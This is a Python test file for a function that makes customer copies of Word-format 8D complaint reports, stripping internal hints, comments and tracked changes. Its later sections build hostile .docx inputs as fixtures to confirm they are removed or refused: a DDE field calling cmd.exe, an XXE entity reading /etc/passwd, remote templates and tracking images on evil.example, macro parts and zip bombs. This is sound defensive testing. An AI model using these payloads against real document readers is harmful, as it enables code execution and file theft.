"""The customer's copy: what was for us is gone, what the engineer wrote stays, and a hostile file is refused."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document
from docx.oxml.ns import qn
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.customer_copy import customer_copy
from generator.docx_package import FormUnreadable
from tests.generator.docx_reading import (
    BODY,
    US,
    WRITER,
    cells,
    column,
    edited,
    facts,
    filled,
    packed,
    paragraphs,
    parts,
    root,
    text_of,
    words,
)

BLANK = WRITER.write("F16a", "zh", facts("peeling-label.zh"))
TYPED = {"d0.era": "17:30 停止上线并冻结 1,260 片", "d2.statement": "角部剥离 ≥ 10 mm", "d4.tua": "胶型更换 {{ 7*7 }}"}
ROWS = {"d5.actions.action": ["指定胶型 A", "增加老化后剥离力"], "d3.actions.checked": ["3,600", "", "1,260"]}
RETURNED = filled(BLANK, TYPED, ROWS)
RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture(scope="module")
def copy() -> bytes:
    return customer_copy(RETURNED)


def test_it_carries_the_number_and_date_of_the_revision_it_is_made_of() -> None:
    stamped = customer_copy(RETURNED, "R3", "2026-03-09")
    shown = words(stamped)
    assert "R3  ·  2026-03-09" in shown
    assert not any("R1" in part for part in shown.split("·"))


def with_xml(xml: str, docx: bytes = RETURNED) -> bytes:
    """The returned form with `xml` put before everything in its body."""
    return edited(docx, BODY, "<w:body>", f"<w:body>{xml}")


def with_relation(kind: str, target: str, xml: str, outside: bool = True, content: bytes = b"x") -> bytes:
    """The returned form with a relationship `rId99` of a kind, the part it leads to, and `xml` that uses it."""
    mode = ' TargetMode="External"' if outside else ""
    relation = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    docx = edited(with_xml(xml), RELATIONS, "</Relationships>", relation)
    docx = edited(docx, BODY, "<w:document ", f'<w:document xmlns:rel="{OFFICE}" ')
    return docx if outside else packed({**parts(docx), f"word/{target}": content})


def run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


# ---------------------------------------------------------------- ours goes


def test_what_the_engineer_wrote_stays(copy: bytes) -> None:
    shown = cells(copy)
    assert {name: shown[name] for name in TYPED} == TYPED
    assert column(copy, "d5.actions.action") == ROWS["d5.actions.action"]


def test_prefilled_cells_stay_as_they_are(copy: bytes) -> None:
    before, after = cells(BLANK), cells(copy)
    known = [name for name, text in before.items() if text and not text.startswith("〔")]
    kept = [name for name in known if name in after and name not in TYPED]
    other = ("stage", "case_no")
    assert {name: after[name] for name in kept if name not in other} == {
        name: before[name] for name in kept if name not in other
    }
    assert {"customer_name", "qty_defect", "customer_words", "complaint_type"} <= set(kept)


def test_a_customer_reads_one_number_of_the_case_theirs_if_it_has_one(copy: bytes) -> None:
    assert cells(BLANK)["case_no"] == "202603-007  K2026-00012"
    assert cells(copy)["case_no"] == "202603-007"
    numberless = WRITER.write("F16a", "zh", {**facts("peeling-label.zh"), "case_no": ""})
    assert cells(customer_copy(numberless))["case_no"] == "K2026-00012"


def test_what_nobody_filled_has_a_dash_also_in_a_row_that_says_something(copy: bytes) -> None:
    assert (cells(copy)["d4.tua_check"], cells(copy)["d8.summary"]) == ("—", "—")
    assert column(copy, "d3.actions.checked") == ["3,600", "—", "1,260", "—", "—"]
    assert column(copy, "d5.actions.owner") == ["—", "—"]


def test_cells_that_the_customer_fills_stay_empty() -> None:
    sheet = customer_copy(WRITER.write("F02b", "zh", {"case_no": "202603-007", "customer_name": "华光电力"}))
    shown = cells(sheet)
    assert (shown["user_signature"], shown["contact_phone"]) == ("", "—")


def test_banner_guidance_hints_and_due_dates_are_gone(copy: bytes) -> None:
    assert "工作稿" in words(RETURNED)
    assert not [each for each in ("工作稿", "内部使用", "浅黄色", "必填", "〔", "〕", "期限") if each in words(copy)]


def progress(docx: bytes) -> list[str]:
    """What stands under D0, D1 … in the strip, and behind the heads of the disciplines."""
    found = paragraphs(docx)
    return [text_of(each) for each in (*found.get("kesu Step", ()), *found["kesu Step Note"])]


def test_it_shows_what_is_done_with_its_date_and_nothing_that_is_due() -> None:
    steps = [
        {"step": "D0", "state": "done", "date": "2026-03-10"},
        {"step": "D3", "state": "open", "date": "2026-03-13"},
        {"step": "D8", "state": "overdue", "date": "2026-03-20"},
    ]
    copied = customer_copy(WRITER.write("F16a", "zh", {**facts("peeling-label.zh"), "steps": steps}))
    assert progress(copied) == ["✓ 03-10", *["—"] * 8, "完成 03-10", *[""] * 7]  # nobody wrote D5: it has no head
    grounds = {shade.get(qn("w:fill")) for shade in root(copied).iter(qn("w:shd"))}
    assert grounds == {"EFF3F7", "DCE5EF", "1F3A5F", "E6F3EA", "FFFFFF"}


def test_as_long_as_nothing_is_done_there_is_no_strip(copy: bytes) -> None:
    assert progress(copy) == [""] * 9


def test_a_fact_that_nobody_knows_has_a_dash() -> None:
    known = {**US, "product_name": "RDIMM", "d3.mark": "绿色圆点", "d1.team": [{"name": "陈立群"}]}
    shown = cells(customer_copy(WRITER.write("F16a", "zh", known)))
    assert {name: shown[name] for name in ("product_name", "model", "customer_part_no")} == {
        "product_name": "RDIMM",
        "model": "—",
        "customer_part_no": "—",
    }
    assert (shown["d3.mark"], shown["d3.first_shipment"]) == ("绿色圆点", "—")


def test_its_list_of_revisions_ends_with_its_own() -> None:
    before = {"what": "初报", "by": "陈立群"}
    listed = [{**before, "revision": "R1", "date": "2026-03-12"}, {**before, "revision": "R2", "date": "2026-03-16"}]
    copied = customer_copy(WRITER.write("F16a", "zh", {**US, "annex.history": listed}), "R3", "2026-03-18")
    assert column(copied, "annex.history.revision") == ["R1", "R3"]
    assert column(copied, "annex.history.date") == ["2026-03-12", "2026-03-18"]


def test_no_cell_is_yellow(copy: bytes) -> None:
    grounds = {shade.get(qn("w:fill")) for shade in root(copy).iter(qn("w:shd"))}
    assert grounds == {"EFF3F7", "DCE5EF", "1F3A5F"}


def test_rows_nobody_filled_are_gone_and_the_fixed_ones_stay(copy: bytes) -> None:
    assert column(copy, "d1.team.name") == ["林致远", "陈立群"]
    assert column(copy, "d5.actions.no") == ["A1", "A2"]
    assert column(copy, "d6.actions.no") == []
    assert len(column(copy, "d3.actions.location")) == 5
    assert len(column(copy, "d7.documents.document")) == 6


def test_a_block_that_nobody_used_is_gone(copy: bytes) -> None:
    assert "5-Why" in words(RETURNED)
    assert not [each for each in ("5-Why", "D2 照片") if each in words(copy)]


def test_a_photo_pasted_into_its_place_keeps_the_strip() -> None:
    body = parts(RETURNED)[BODY].decode()
    hint = body.index("〔图 D2-1")
    start = body.rindex("<w:r>", 0, hint)
    pasted = body[:start] + "<w:r><w:drawing/></w:r>" + body[body.index("</w:r>", hint) + len("</w:r>") :]
    copied = customer_copy(packed({**parts(RETURNED), BODY: pasted.encode()}))
    assert "D2 照片" in words(copied)
    assert "〔图" not in words(copied)


def test_text_typed_beside_a_hint_stays_and_the_hint_goes() -> None:
    beside = edited(BLANK, BODY, "〔24 h 内：停发、隔离、通知了谁；何时〕", "〔24 h 内：停发〕已停发 3 批")
    assert cells(customer_copy(beside))["d0.era"] == "已停发 3 批"


def test_half_a_hint_is_not_taken_for_one() -> None:
    half = edited(BLANK, BODY, "〔24 h 内：停发、隔离、通知了谁；何时〕", "〔24 h 内已停发")
    assert cells(customer_copy(half))["d0.era"] == "〔24 h 内已停发"


@pytest.mark.parametrize(
    ("ticked", "shown", "header"),
    [
        ({}, "☐初报 ☐中间 ☑最终", "最终 Final"),
        ({"stage": "☑\u00a0初报   ☐\u00a0中间   ☐\u00a0最终"}, "☑初报 ☐中间 ☐最终", "初报 Initial"),
        ({"stage": "☐ 初报 √ 中间 ☐ 最终"}, "☐ 初报 √ 中间 ☐ 最终", "中间 Interim"),
    ],
)
def test_the_stage_is_what_was_ticked_else_final(ticked: dict[str, str], shown: str, header: str) -> None:
    copied = customer_copy(filled(RETURNED, ticked))
    assert cells(copied)["stage"].replace("\u00a0", "").split() == shown.split()
    assert words(copied).count(header) == 1


def test_the_english_edition_is_released_too() -> None:
    copied = customer_copy(WRITER.write("F16a", "en", facts("no-boot.en")))
    assert "Final" in words(copied)
    assert not [each for each in ("Draft", "internal", "pale yellow", "〔", "Due 03-18") if each in words(copied)]


# ---------------------------------------------------------------- changes and comments


def test_tracked_insertions_stay_and_deletions_go() -> None:
    docx = with_xml(
        f'<w:p><w:ins w:id="900" w:author="a">{run("new ")}</w:ins>'
        '<w:del w:id="901" w:author="a"><w:r><w:delText>old </w:delText></w:r></w:del>'
        f'<w:moveFrom w:id="902" w:author="a">{run("from ")}</w:moveFrom>'
        f'<w:moveTo w:id="903" w:author="a">{run("to")}</w:moveTo></w:p>'
    )
    copied = customer_copy(docx)
    assert words(copied).startswith("new to\n")
    assert not [tag for tag in ("ins", "del", "moveFrom", "moveTo") if list(root(copied).iter(qn(f"w:{tag}")))]


def test_a_deleted_row_goes_and_an_inserted_one_stays() -> None:
    def row(mark: str, text: str) -> str:
        return f'<w:tr><w:trPr><w:{mark} w:id="9" w:author="a"/></w:trPr><w:tc><w:p>{run(text)}</w:p></w:tc></w:tr>'

    docx = with_xml(f"<w:tbl>{row('del', 'GONE')}{row('ins', 'STAYS')}</w:tbl><w:p/>")
    assert words(customer_copy(docx)).startswith("STAYS\n")


def test_a_deleted_paragraph_end_joins_two_paragraphs() -> None:
    docx = with_xml(
        f'<w:p><w:pPr><w:rPr><w:del w:id="9" w:author="a"/></w:rPr></w:pPr>{run("one ")}</w:p>'
        f'<w:p><w:pPr><w:pStyle w:val="kesuCell"/></w:pPr>{run("line")}</w:p>'
    )
    assert words(customer_copy(docx)).startswith("one line\n")


def test_what_used_to_be_the_look_is_forgotten() -> None:
    docx = with_xml('<w:p><w:pPr><w:pPrChange w:id="9" w:author="spy"><w:pPr/></w:pPrChange></w:pPr></w:p>')
    assert b"spy" not in parts(customer_copy(docx))[BODY]


def test_comments_are_gone_with_their_part() -> None:
    ends = '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>'
    xml = f'<w:p><w:commentRangeStart w:id="0"/>{run("seen")}{ends}</w:p>'
    docx = with_relation("comments", "comments.xml", xml, outside=False, content=b"<c>secret</c>")
    copied = customer_copy(docx)
    assert words(copied).startswith("seen\n")
    assert b"comment" not in parts(copied)[BODY]
    assert "word/comments.xml" not in parts(copied)


# ---------------------------------------------------------------- nothing reaches out


def test_a_link_becomes_its_words() -> None:
    docx = with_relation(
        "hyperlink", "https://evil.example/x", f'<w:p><w:hyperlink rel:id="rId99">{run("our site")}</w:hyperlink></w:p>'
    )
    copied = customer_copy(docx)
    assert words(copied).startswith("our site\n")
    assert not [name for name, data in parts(copied).items() if b"evil.example" in data]


@pytest.mark.parametrize(
    ("kind", "target", "outside", "xml"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", True, ""),
        ("aFChunk", "chunk.html", False, '<w:altChunk rel:id="rId99"/>'),
        ("subDocument", "https://evil.example/sub.docx", True, '<w:subDoc rel:id="rId99"/>'),
        ("oleObject", "embeddings/oleObject1.bin", False, (
            '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" rel:id="rId99"/>'
            "</w:object></w:r></w:p>"
        )),
        ("image", "https://evil.example/pixel.png", True, (
            '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'rel:link="rId99"/></w:drawing></w:r></w:p>'
        )),
        ("image", "media/x.svg", False, (
            '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'rel:embed="rId99"/></w:drawing></w:r></w:p>'
        )),
        ("control", "activeX/activeX1.xml", False, '<w:p><w:r><w:control rel:id="rId99"/></w:r></w:p>'),
        ("customXml", "../customXml/item1.xml", False, ""),
    ],
)  # fmt: skip
def test_what_reaches_out_or_runs_is_gone(kind: str, target: str, outside: bool, xml: str) -> None:
    copied = customer_copy(with_relation(kind, target, xml, outside))
    content = parts(copied)
    assert not [name for name, data in content.items() if b"rId99" in data or b"evil.example" in data]
    assert f"word/{target}" not in content
    assert {name: cells(copied)[name] for name in TYPED} == TYPED


def test_a_picture_inside_the_file_stays() -> None:
    drawing = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'rel:embed="rId99"/></w:drawing></w:r></w:p>'
    )
    copied = customer_copy(with_relation("image", "media/photo.jpeg", drawing, outside=False, content=b"JPEG"))
    assert parts(copied)["word/media/photo.jpeg"] == b"JPEG"
    assert b'embed="rId99"' in parts(copied)[BODY]


def test_fields_that_fetch_lose_their_instruction_and_page_numbers_stay() -> None:
    def field(instruction: str, result: str) -> str:
        split = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in instruction.split("|"))
        marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
        return f"<w:p>{marks[0]}{split}{marks[1]}{run(result)}{marks[2]}</w:p>"

    xml = field(" DDE|AUTO c:\\cmd.exe x", "A") + field(" INCLUDETEXT \\\\evil\\x", "B") + field(" PAGE ", "7")
    simple = f'<w:p><w:fldSimple w:instr=" DDE x ">{run("C")}</w:fldSimple></w:p>'
    copied = customer_copy(with_xml(xml + simple))
    assert words(copied).startswith("A\nB\n7\nC\n")
    assert [each.text for each in root(copied).iter(qn("w:instrText"))] == [" PAGE "]
    assert not list(root(copied).iter(qn("w:fldSimple")))


# ---------------------------------------------------------------- strange files


def test_a_document_that_is_not_ours_is_cleaned_the_same_way() -> None:
    document = Document()
    document.add_heading("Customer's own 8D", 1)
    document.add_table(rows=2, cols=2).cell(0, 0).text = "Root cause 〔as agreed〕"
    out = io.BytesIO()
    document.save(out)
    copied = customer_copy(out.getvalue())
    assert text_of(root(copied)) == text_of(root(out.getvalue()))


def test_the_copy_opens_in_word_libraries_and_is_the_same_each_time(copy: bytes) -> None:
    assert len(Document(io.BytesIO(copy)).tables) == 13
    assert customer_copy(RETURNED) == copy
    assert customer_copy(copy) == copy


def macro_types(old: str, new: str) -> bytes:
    return edited(RETURNED, "[Content_Types].xml", old, new)


def bomb(name: str, size: int) -> bytes:
    return packed({**parts(RETURNED), name: b"\0" * size})


def twice() -> bytes:
    out = io.BytesIO(RETURNED)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/DOCUMENT.xml", b"<x/>")
    return out.getvalue().replace(b"word/DOCUMENT.xml", BODY.encode())


def locked() -> bytes:
    """The file with the "encrypted" bit set in every entry of the central directory."""
    raw = bytearray(RETURNED)
    place = raw.find(b"PK\x01\x02")
    while place >= 0:
        raw[place + 8] |= 1
        place = raw.find(b"PK\x01\x02", place + 1)
    return bytes(raw)


DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
REFUSED = {
    "empty": (b"", "damaged or not a Word document"),
    "text": (b"hello", "damaged or not a Word document"),
    "pdf": (b"%PDF-1.7\n", "damaged or not a Word document"),
    "half": (RETURNED[: len(RETURNED) // 2], "damaged or not a Word document"),
    "old .doc or password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted or an old .doc"),
    "zip password": (locked(), "encrypted"),
    "zip of something else": (packed({"readme.txt": b"x"}), "not a Word document"),
    "docm": (macro_types("wordprocessingml.document.main", "ms-word.document.macroEnabled.main"), "contains macros"),
    "macro part": (bomb("word/vbaProject.bin", 10), "contains macros"),
    "spreadsheet": (macro_types("wordprocessingml.document.main", "spreadsheetml.sheet.main"), "not a Word document"),
    "external entity": (packed({**parts(RETURNED), BODY: f"{DTD}<x>&e;</x>".encode()}), "declares a document type"),
    "broken XML": (packed({**parts(RETURNED), BODY: b"<w:document>"}), "not well-formed"),
    "deep XML": (packed({**parts(RETURNED), BODY: b"<a>" * 5000 + b"</a>" * 5000}), "not well-formed"),
    "strict": (packed({**parts(RETURNED), BODY: f'<w:document xmlns:w="{STRICT}"/>'.encode()}), "by default"),
    "one huge part": (bomb("word/media/a.png", 25 * 2**20), "unpacks to more"),
    "many parts": (packed({f"x{n}": b"" for n in range(1001)}), "more than 1000 parts"),
    "same part twice": (twice(), "same part twice"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_sent_on_is_refused_with_a_reason(name: str) -> None:
    docx, reason = REFUSED[name]
    with pytest.raises(FormUnreadable, match=reason):
        customer_copy(docx)


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(RETURNED) - 1), st.binary(min_size=1, max_size=8))
def test_a_damaged_file_is_read_or_refused_and_nothing_else(place: int, damage: bytes) -> None:
    try:
        copied = customer_copy(RETURNED[:place] + damage + RETURNED[place + len(damage) :])
    except FormUnreadable:
        return
    assert zipfile.is_zipfile(io.BytesIO(copied))
